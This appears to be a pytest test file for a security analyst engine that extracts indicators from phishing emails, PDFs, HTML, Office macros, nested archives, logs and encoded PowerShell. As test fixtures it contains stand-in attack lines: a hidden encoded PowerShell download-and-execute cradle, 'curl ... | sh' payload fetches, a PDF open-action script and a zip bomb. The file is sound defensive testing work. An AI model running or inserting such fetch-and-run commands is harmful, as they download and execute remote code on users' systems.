"""What the analyst reads in files, and where it says that things stand."""

from __future__ import annotations

import base64
import hashlib

import pytest
from sample_files import EXAMPLES, docx_of, gzip_of, mail_of, pdf_of, tar_of, text_page, zip_of

from secgemini.local.engines.analyst.examine import examine, search_text
from secgemini.local.engines.analyst.findings import FileReport, Findings
from secgemini.local.engines.analyst.kinds import Kind
from secgemini.local.engines.analyst.parts import Budget


class Examined:
    """A report with its indicators, in a form that is easy to compare."""

    def __init__(self, name: str, content: bytes, budget: Budget | None = None) -> None:
        self.findings = Findings()
        self.report = examine(name, content, self.findings, budget=budget)

    def places(self, value: str) -> list[str]:
        return [
            str(place)
            for indicators in self.findings.by_kind().values()
            for indicator in indicators
            if indicator.value == value
            for place in indicator.places
        ]

    def facts(self) -> dict[str, str]:
        return {fact.name: fact.value for fact in self.report.facts}


def example(name: str) -> Examined:
    return Examined(name, (EXAMPLES / name).read_bytes())


def names(report: FileReport) -> list[str]:
    return [name for inner in report.inner for name in (inner.name, *names(inner))]


def test_the_example_mail() -> None:
    mail = example("phishing.eml")
    assert mail.facts()["Subject"] == "Invoice 2026-1147 is overdue – please pay today"
    assert names(mail.report) == ["part 1 (plain)", "part 2 (html)", "invoice.pdf"]
    assert mail.report.inner[2].sha256 == hashlib.sha256((EXAMPLES / "invoice.pdf").read_bytes()).hexdigest()
    assert mail.places("https://pay-example.evil.example/terms") == ["phishing.eml › invoice.pdf › page 2, line 4"]
    assert mail.places("https://cdn.evil.example/update.ps1") == ["phishing.eml › part 1 (plain), line 11"]
    assert mail.places("bounce@mailer.evil.example") == ["phishing.eml › header Return-Path"]
    assert mail.places("https://track.evil.example/o.gif?m=finance%40example.com") == [
        "phishing.eml › part 2 (html) › link, line 7"
    ]
    assert mail.report.notes == [
        "Reply-To is at evil.example, From at northwind.example",
        "Return-Path is at mailer.evil.example, From at northwind.example",
        "the receiving server reports failed checks: spf, dmarc",
    ]
    assert mail.report.inner[1].notes == ["line 6: a link shows pay.example.com and leads to pay-example.evil.example"]


def test_the_example_pdf_and_the_link_behind_its_text() -> None:
    pdf = example("invoice.pdf")
    assert (pdf.facts()["pages"], pdf.report.notes) == ("2", [])
    assert pdf.places("https://pay.example.com/invoice/2026-1147") == ["invoice.pdf › page 1, line 9"]
    assert pdf.places("https://pay-example.evil.example/invoice/2026-1147?u=finance") == ["invoice.pdf › page 1 › link"]


def test_a_damaged_link_of_a_pdf_hides_neither_its_text_nor_other_links() -> None:
    links = b"/Annots[1 <</A 2>> <<>> <</A<</S/URI/URI(http://link.example/)>>>>]/MediaBox"
    pdf = Examined("a.pdf", pdf_of([text_page("text.example")]).replace(b"/MediaBox", links))
    assert pdf.places("text.example") == ["a.pdf › page 1, line 1"]
    assert pdf.places("http://link.example/") == ["a.pdf › page 1 › link"]
    assert pdf.report.notes == []


def test_a_pdf_that_acts_when_it_is_opened() -> None:
    action = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://js.example/'\\))>>"
    assert Examined("a.pdf", pdf_of([b""], action)).report.notes == ["acts when it is opened: /JavaScript"]


def test_a_pdf_has_a_limit_on_pages() -> None:
    pdf = Examined("a.pdf", pdf_of([text_page(f"host{number}.example") for number in range(203)]))
    assert pdf.places("host199.example") == ["a.pdf › page 200, line 1"]
    assert pdf.places("host200.example") == []
    assert pdf.report.notes == ["only the first 200 of 203 pages were read"]


def test_a_damaged_pdf_is_reported_not_raised() -> None:
    content = (EXAMPLES / "invoice.pdf").read_bytes()
    assert "could not be read to its end" in Examined("cut.pdf", content[:1500]).report.notes[0]


def test_a_message_attached_to_a_message_keeps_its_headers() -> None:
    from email.message import EmailMessage
    from email.parser import BytesParser
    from email.policy import default

    outer = EmailMessage()
    outer["From"], outer["To"], outer["Subject"] = "o@outer.example", "p@outer.example", "fwd"
    outer.set_content("see attached")
    outer.add_attachment(BytesParser(policy=default).parsebytes(mail_of("body", From="i@inner.example")))
    mail = Examined("outer.eml", outer.as_bytes())
    assert mail.places("i@inner.example") == ["outer.eml › part 2 (rfc822) › header From"]


@pytest.mark.parametrize(
    "spoiled",
    [
        "Content-Disposition: attachment; filename*0*=x; filename*1*=y; filename*=z",
        "Content-Disposition: attachment; filename*=nope''%ff%fe",
        "Content-Type: text/plain; charset=hex",
        "Content-Type: multipart/mixed",
        "Content-Type: message/rfc822",
        "Content-Transfer-Encoding: \xff",
    ],
)
def test_a_spoiled_part_hides_neither_itself_nor_the_next(spoiled: str) -> None:
    container = 'From: a@b.example\nTo: c@d.example\nSubject: x\nContent-Type: multipart/mixed; boundary="b"\n\n'
    mail = Examined("m.eml", f"{container}--b\n{spoiled}\n\none.example\n--b\n\ntwo.example\n--b--\n".encode("latin-1"))
    assert mail.places("one.example")
    assert mail.places("two.example")


def test_encoded_headers_and_other_character_sets() -> None:
    source = (
        b"From: =?iso-8859-1?q?J=F6rg?= <j@a.example>\nTo: b@b.example\n"
        b"Subject: =?utf-8?b?R3LDvMOfZQ==?= =?x?q?broken?=\n"
        b"Content-Type: text/plain; charset=utf-16le\nContent-Transfer-Encoding: base64\n\n"
        + base64.b64encode("see http://wide.example/ö".encode("utf-16-le"))
    )
    mail = Examined("m.eml", source)
    assert mail.facts()["From"] == "Jörg <j@a.example>"
    assert mail.facts()["Subject"].startswith("Grüße")
    assert mail.places("http://wide.example/ö") == ["m.eml › part 1 (plain), line 1"]


def test_html_text_keeps_its_lines_and_words_their_parts() -> None:
    page = Examined(
        "p.html", b"<html>\n<p\nclass='x'>ev<b>il</b>.example&#46;</p>\n<form action='/a?u=http://f.example'>"
    )
    assert page.places("evil.example") == ["p.html, line 3"]
    assert page.places("http://f.example") == ["p.html › link, line 4"]


@pytest.mark.parametrize(
    ("tag", "where"),
    [
        ('<a href="http://f.example/?a=b">', "link"),
        ("<a href=http://f.example/?a=b>", "link"),
        ("<button\n formaction='http://f.example/?a=b'>", "link"),
        ("<p class=x\n data-url='http://f.example/?a=b'>", "attribute"),
        ("<p\n onclick=\"location='http://f.example/?a=b'\">", "attribute"),
        ("<p\n onclick=location=&quot;http://f.example/?a=b&quot;>", "attribute"),
        ("<p\n style='background: url(http://f.example/?a=b)'>", "attribute"),
        ("<p\n :href='http://f.example/?a=b'>", "attribute"),
        ("<p\n http://f.example/?a=b>", "attribute"),
        ("<img\n srcset='small.png 1x, http://f.example/?a=b 2x'>", "attribute"),
        ("<meta http-equiv=refresh\n content='0; url=http://f.example/?a=b'>", "attribute"),
    ],
)
def test_every_attribute_is_searched_on_its_own_line(tag: str, where: str) -> None:
    page = Examined("p.html", f"<html>\n{tag}x".encode())
    assert page.places("http://f.example/?a=b") == [f"p.html › {where}, line {2 + tag.count(chr(10))}"]
    text = Examined("p.xml", f"<?xml version='1.0'?>\n{tag}</a>".encode())
    assert text.places("http://f.example/?a=b") == [f"p.xml › {where}, line {2 + tag.count(chr(10))}"]


def test_the_names_of_name_spaces_are_no_addresses() -> None:
    picture = Examined(
        "p.svg", b'<svg xmlns="http://ns.example" xmlns:x="http://ns.example"><a x:y="http://f.example"/>'
    )
    assert picture.places("http://ns.example") == []
    assert picture.places("http://f.example") == ["p.svg › attribute, line 1"]


def test_links_that_show_one_host_and_lead_to_another() -> None:
    page = Examined(
        "p.html",
        b"<html><a href=//a.example><b>www</b>.a.example</a>\n<a\nhref='http://bad.example'>see\n pay.example"
        b"<a href='http://a.example/?u=http://bad.example'>bad.example</a>\n"
        b"<a href=bad.example href=x.example>x.example</a>",
    )
    assert page.report.notes == [
        "line 2: a link shows pay.example and leads to bad.example",
        "line 5: a link shows x.example and leads to bad.example",
    ]


def test_docx_text_links_and_macros() -> None:
    content = docx_of(["nothing", "http://ho|st.exam|ple/x"], ["http://link.example/"])
    document = Examined("a.docx", content)
    assert document.places("http://host.example/x") == ["a.docx › word/document.xml, line 2"]
    assert document.places("http://link.example/") == ["a.docx › word/_rels/document.xml.rels"]
    macros = Examined("a.docx", docx_of(["x"], **{"word__vbaProject.bin": b"\0\1http://macro.example/\0"}))
    assert macros.report.notes == ["contains macros"]
    assert macros.places("http://macro.example/") == ["a.docx › word/vbaProject.bin › strings"]


def test_archives_in_archives() -> None:
    inner = zip_of({"deep/notes.txt": b"one\nevil.example\n"})
    packed = gzip_of(tar_of({"data/inner.zip": inner, "run.sh": b"curl http://sh.example/x\n"}))
    archive = Examined("backup.tar.gz", packed)
    assert archive.places("evil.example") == ["backup.tar.gz › backup.tar › data/inner.zip › deep/notes.txt, line 2"]
    assert archive.places("http://sh.example/x") == ["backup.tar.gz › backup.tar › run.sh, line 1"]


def test_names_of_entries_are_searched() -> None:
    archive = Examined("a.zip", zip_of({"x/9e107d9d372bb6826bd81d3542a419d6.bin": b"\0"}))
    assert archive.places("9e107d9d372bb6826bd81d3542a419d6") == ["a.zip › entry names, line 1"]


def test_an_archive_that_grows_too_much_is_left_out_and_said_so() -> None:
    bomb = Examined("b.zip", zip_of({"zeros": bytes(20_000_000), "a.txt": b"evil.example"}))
    assert bomb.report.notes[0].startswith("zeros was left out: it claims to grow")
    assert bomb.places("evil.example") == ["b.zip › a.txt, line 1"]


def test_what_is_nested_too_deeply_is_not_opened() -> None:
    content = b"deep.example"
    for _ in range(10):
        content = zip_of({"n.zip": content})
    archive = Examined("n.zip", content)
    assert archive.places("deep.example") == []
    report = archive.report
    while report.inner:
        report = report.inner[0]
    assert report.notes == ["n.zip was not opened: nested too deeply"]


def test_only_so_many_entries_are_opened() -> None:
    archive = Examined("a.zip", zip_of({f"{number}.txt": b"x" for number in range(1010)}))
    assert archive.report.notes == ["1000.txt and what follows was left out: too much is inside"]


def test_the_size_of_a_negative_tar_entry_does_not_lead_back() -> None:
    archive = Examined("a.tar", tar_of({"a.txt": b"evil.example"}, {"size": "-1024"}))
    assert len(archive.report.inner) <= 1


def test_text_in_any_encoding() -> None:
    for encoding in ("utf-8", "utf-16", "utf-16-le", "cp1252"):
        text = Examined("a.txt", "Grüße\r\nan evil.example\r".encode(encoding))
        assert text.places("evil.example") == ["a.txt, line 2"]


def test_a_log_that_quotes_code_is_still_a_log() -> None:
    line = '203.0.113.9 - - [20/Nov/2026:03:00:00 +0200] "GET /?x=Invoke-Expression HTTP/1.1" 401 1 "-" "-"\n'
    for name in ("access.log", "access.log.1"):
        [log] = Examined(name, line.encode() * 5).report.logs
        assert (log.format, log.failed) == ("web access", {"203.0.113.9": 5})


def test_text_beyond_the_limit_is_left_out_and_said_so() -> None:
    text = Examined("a.txt", b"early.example\n" + b"x\n" * 1000 + b"late.example", Budget(text=1000))
    assert (text.places("early.example"), text.places("late.example")) == (["a.txt, line 1"], [])
    assert text.report.notes == ["only the first 1000 characters were read"]


def test_strings_of_a_binary() -> None:
    content = (
        b"MZ\x90\0\x03\0\0\0" + bytes(60) + b"http://ascii.example/a\0\0" + "http://wide.example/b".encode("utf-16-le")
    )
    binary = Examined("a.exe", content)
    assert any("IP addresses, domains and hashes were not searched for" in note for note in binary.report.notes)
    assert binary.places("http://ascii.example/a") == ["a.exe › strings"]
    assert binary.places("http://wide.example/b") == ["a.exe › strings"]


COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://ps.example/a')"


@pytest.mark.parametrize(
    "option", ["-e", "-enc", "-EncodedCommand", "/ec", "-EnCoDeDcOmMaNd", "-^e^n^c", "-En`c`od", "\u2014e"]
)
def test_encoded_powershell_is_decoded(option: str) -> None:
    code = base64.b64encode(COMMAND.encode("utf-16-le")).decode()
    script = Examined("a.cmd", f"@echo off\npowershell.exe -nop -w hidden {option} {code}\n".encode())
    assert script.places("http://ps.example/a") == ["a.cmd › line 2 › PowerShell command, line 1"]
    [decoded] = script.report.inner
    assert (decoded.preview, decoded.label) == (COMMAND, "powershell")


def test_base64_in_base64_is_decoded_to_a_bounded_depth() -> None:
    text = "see http://deep.example/ for more of this"
    depth_reached = 0
    for depth in range(1, 10):
        text = "data: " + base64.b64encode(text.encode()).decode()
        if Examined("a.txt", text.encode()).places("http://deep.example/"):
            depth_reached = depth
    assert depth_reached == 6


def test_wrapped_base64_of_a_file_is_read_as_that_file() -> None:
    wrapped = base64.encodebytes(pdf_of([text_page("see http://pdf.example/")])).decode()
    text = Examined("a.txt", f"attachment:\n\n{wrapped}\nthe end".encode())
    assert text.places("http://pdf.example/") == ["a.txt › line 3 › base64 › page 1, line 1"]


@pytest.mark.parametrize(
    "text",
    [
        "payload={}",
        "GET /r?u={} HTTP/1.1",
        "https://tracker.example/click/{}",
        "data:\n  first: {0}\n  second: {0}",
    ],
)
def test_base64_as_a_value_and_in_a_path_is_decoded(text: str) -> None:
    code = base64.b64encode(b"http://deep.example/payload.exe").decode().rstrip("=")
    assert Examined("a.txt", text.format(code).encode()).places("http://deep.example/payload.exe")


@pytest.mark.parametrize("indent", ["", "    ", "\t"])
def test_base64_may_be_wrapped_and_indented(indent: str) -> None:
    code = base64.b64encode(b"curl http://deep.example/payload | sh # " * 9).decode()
    wrapped = "".join(f"{indent}{code[start : start + 60]}\n" for start in range(0, len(code), 60))
    text = Examined("a.yaml", f"secret: |\n{wrapped}other: 1\n".encode())
    assert [report.where for report in text.report.inner] == [("line 2",)]
    assert text.places("http://deep.example/payload") == ["a.yaml › line 2 › base64, line 1"]


def test_a_url_in_a_table_ends_with_its_cell() -> None:
    table = (
        "url,kind,seen\nhttp://a.example/x,bad,b.example\n"
        'hxxp://c[.]example/,bad,10.0.0.1\n"http://d.example/x,y","a,b",z\n'
    )
    text = Examined("a.csv", table.encode())
    assert text.places("http://a.example/x") == text.places("b.example") == ["a.csv, line 2"]
    assert text.places("http://c.example/") == ["a.csv, line 3"]
    assert text.places("http://d.example/x,y") == ["a.csv, line 4"]
    assert Examined("a.csv", table.replace(",", ";").encode()).places("http://a.example/x") == ["a.csv, line 2"]


@pytest.mark.parametrize(
    "text",
    [
        "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
        "ThisIsJustALongIdentifierNameInSomeSourceCode",
        "/usr/share/locale/some/rather/long/path/name",
        "A" * 4000,
    ],
)
def test_what_is_no_base64_stays_undecoded(text: str) -> None:
    assert Examined("a.txt", text.encode()).report.inner == []


def test_a_text_that_is_no_file_is_searched_with_its_own_line_numbers() -> None:
    findings = Findings()
    search_text("evil.example\nx\n10.0.0.1", "attached logs", findings, lines=[7, 8, 30])
    found = [indicator for kind in (Kind.DOMAIN, Kind.IPV4) for indicator in findings.by_kind()[kind]]
    assert {indicator.value: [place.line for place in indicator.places] for indicator in found} == {
        "evil.example": [7],
        "10.0.0.1": [30],
    }


def test_a_reader_for_a_new_type_needs_only_a_module() -> None:
    from secgemini.local.engines.analyst.readers import reader_for

    assert {
        reader_for(label).__name__.rpartition(".")[2] for label in ("pdf", "eml", "html", "docx", "zip", "tar")
    } == {
        "pdf",
        "mail",
        "html",
        "office",
        "archive",
        "tar",
    }
    assert reader_for("never heard of").__name__.endswith(".strings")
